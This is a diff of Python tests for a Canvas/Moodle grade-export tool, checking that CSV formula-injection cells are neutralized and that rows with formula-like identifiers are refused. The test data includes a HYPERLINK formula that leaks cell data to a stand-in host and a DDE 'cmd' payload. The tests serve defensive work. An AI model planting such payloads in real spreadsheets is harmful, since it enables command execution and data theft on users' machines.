@@ -263,13 +263,94 @@ def test_reports_that_no_submission_time_orders_give_an_error_row(tmp_path):
 def test_formula_names_are_neutralized_in_canvas_and_moodle_csvs():
     # OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading quote.
     evil = canvas.read_gradebook('Student,ID,SIS User ID,SIS Login ID,Section,MHA (1)\n'
-                                 '"=HYPERLINK(""http://x.example/?""&A1,""click"")",77,+1,@me,-A\n')
+                                 '"=HYPERLINK(""http://x.example/?""&A1,""click"")",77,S77,me@uni.edu,-A\n')
     export = canvas.match([_report("r.json", 100, {"id": "77"})], evil)
     rows = list(csv.reader(io.StringIO(canvas.to_csv(export, "MHA (1)"))))
-    assert rows[1] == ["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "77", "'+1", "'@me", "'-A", "100"]
-    built = moodle.build([_report("r.json", 100, {"email": "\tx@uni.edu", "id": "9", "name": "=1+2"})], "email")
+    assert rows[1] == ["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "77", "S77", "me@uni.edu", "'-A", "100"]
+    built = moodle.build([_report("r.json", 100, {"email": "x@uni.edu", "id": "9", "name": "=1+2"})], "email")
     assert list(csv.reader(io.StringIO(moodle.to_csv(built)))) == [
-        ["Email address", "ID number", "Full name", "Grade"], ["'\tx@uni.edu", "9", "'=1+2", "100"]]
+        ["Email address", "ID number", "Full name", "Grade"], ["x@uni.edu", "9", "'=1+2", "100"]]
+
+
+def _formula_identifier(what: str, value: str, lms: str) -> str:
+    return (f"{what} {value!r} begins with {value[:1]!r}, which a spreadsheet runs as a formula; {lms} matches users "
+            "by it, and neutralized (a quote in front) it would name no user, or another one")
+
+
+def test_a_canvas_row_whose_identifier_is_a_formula_is_not_written():
+    # Canvas's gradebook import finds a row's student by ID, else by SIS User ID, else by SIS Login ID
+    # (canvas-lms, GradebookImporter#process_student): a quote in front of any of them names nobody.
+    gradebook = ('Student,ID,SIS User ID,SIS Login ID,Section,MHA (1)\n'
+                 '"Knuth, Donald",1006,S006,=cmd|\' /C calc\'!A0,A\n'
+                 '"Liskov, Barbara",1007,+S007,barbara@uni.edu,A\n'
+                 '"Ritchie, Dennis",1008,S008,dennis@uni.edu,+Section B\n')
+    students = canvas.read_gradebook(gradebook)
+    export = canvas.match([_report("knuth.json", 80, {"id": "1006"}), _report("dennis.json", 70, {"id": "1008"})],
+                          students)
+    assert canvas.to_csv(export, "MHA (1)").splitlines() == [
+        "Student,ID,SIS User ID,SIS Login ID,Section,MHA (1)",
+        '"Ritchie, Dennis",1008,S008,dennis@uni.edu,\'+Section B,70']  # a Section is no identifier: neutralized
+    assert export.scores == {"1008": 70}
+    assert export.unmatched == [("knuth.json (1006)", (
+        "it is Knuth, Donald (1006)'s, whose " + _formula_identifier("SIS Login ID", "=cmd|' /C calc'!A0", "Canvas")
+        + "; no row written: enter this score by hand"))]
+    assert export.notes == [  # no report: nothing lost, but the row is missing and the export says why
+        "Liskov, Barbara (1007) has no row (no score was to be written): its "
+        + _formula_identifier("SIS User ID", "+S007", "Canvas")]
+    assert [s.id for s in export.without_report] == ["1006", "1007"]
+
+
+def test_a_moodle_row_whose_email_or_id_number_is_a_formula_is_not_written():
+    # Moodle's gradebook import matches the column mapped to "Email address" or "ID number"; the export
+    # writes both, and either may be mapped: neither is ever written with a quote in front.
+    reports = [_report("grace.json", 37.0833, {"id": "-1002", "email": "@grace.example", "name": "=HYPERLINK(1)"}),
+               _report("ada.json", 39.1667, {"id": "1001", "email": "ada@uni.edu", "name": "@Ada"}),
+               _report("alan.json", 50, {"id": "+1003", "email": "alan@uni.edu", "name": "Alan Turing"})]
+    by_email = moodle.build(reports, "email")
+    assert moodle.to_csv(by_email).splitlines() == ["Email address,ID number,Full name,Grade",
+                                                    "ada@uni.edu,1001,'@Ada,39.1667"]
+    assert by_email.unmatched == [
+        ("grace.json (=HYPERLINK(1))", "its " + _formula_identifier("email address", "@grace.example", "Moodle")
+         + "; no row written: enter this grade by hand"),
+        ("alan.json (Alan Turing)", "its " + _formula_identifier("ID number", "+1003", "Moodle")
+         + "; no row written: enter this grade by hand")]
+    by_id = moodle.build(reports, "idnumber")  # the key's column is named first
+    assert [row[1] for row in by_id.rows] == ["1001"]
+    assert by_id.unmatched[0] == ("grace.json (=HYPERLINK(1))", "its " + _formula_identifier("ID number", "-1002", "Moodle")
+                                  + "; no row written: enter this grade by hand")
+
+
+def test_cli_exports_refuse_identifier_rows_and_exit_1(tmp_path):
+    folder = tmp_path / "reports"
+    folder.mkdir()
+    report = {"schema_version": 1, "status": "graded", "score": 100, "max_score": 100}
+    (folder / "grace.json").write_text(json.dumps(dict(report, student={
+        "id": "-1002", "email": "@grace.example", "name": "Grace Hopper", "source": "gradescope"})))
+    (folder / "ada.json").write_text(json.dumps(dict(report, student={
+        "id": "1001", "email": "ada@uni.edu", "name": "Ada Lovelace", "source": "gradescope"})))
+    out = tmp_path / "m.csv"
+    result = CliRunner().invoke(main, ["export", "moodle", str(folder), "--key", "email", "-o", str(out)])
+    assert result.exit_code == 1, result.output
+    assert out.read_text() == "Email address,ID number,Full name,Grade\nada@uni.edu,1001,Ada Lovelace,100\n"
+    assert result.stderr == (
+        "unmatched report grace.json (Grace Hopper): its "
+        + _formula_identifier("email address", "@grace.example", "Moodle") + "; no row written: enter this grade by hand\n"
+        f"1 grade(s) written to {out}; 1 report(s) unmatched.\n"
+        "Error: 1 report(s) have no grade in the export: grace.json (Grace Hopper)\n")
+    # Canvas: the row of the gradebook whose SIS Login ID is a formula is not written, its report is listed.
+    (tmp_path / "export.csv").write_text(CANVAS_EXPORT.replace("1003,S003,grace@uni.edu", "1003,S003,@grace.example"),
+                                         encoding="utf-8")
+    (folder / "grace.json").write_text(json.dumps(dict(report, student={"id": "1003", "source": "canvas"})))
+    out = tmp_path / "canvas.csv"
+    result = CliRunner().invoke(main, ["export", "canvas", str(folder), "--gradebook", str(tmp_path / "export.csv"),
+                                       "--assignment", ASSIGNMENT, "-o", str(out)])
+    assert result.exit_code == 1, result.output
+    assert [row[1] for row in csv.reader(io.StringIO(out.read_text()))] == ["ID", "1001", "1002", "1004", "1099"]
+    assert ("unmatched report grace.json (1003): it is Hopper, Grace (1003)'s, whose "
+            + _formula_identifier("SIS Login ID", "@grace.example", "Canvas")
+            + "; no row written: enter this score by hand\n") in result.stderr
+    assert result.stderr.endswith(f"1 score(s) for {ASSIGNMENT} written to {out}; 1 report(s) unmatched.\n"
+                                  "Error: 1 report(s) have no grade in the export: grace.json (1003)\n")
 
 
 # Exports never guess a student: Canvas matches on its own identifiers (ID, SIS User ID, SIS Login ID),
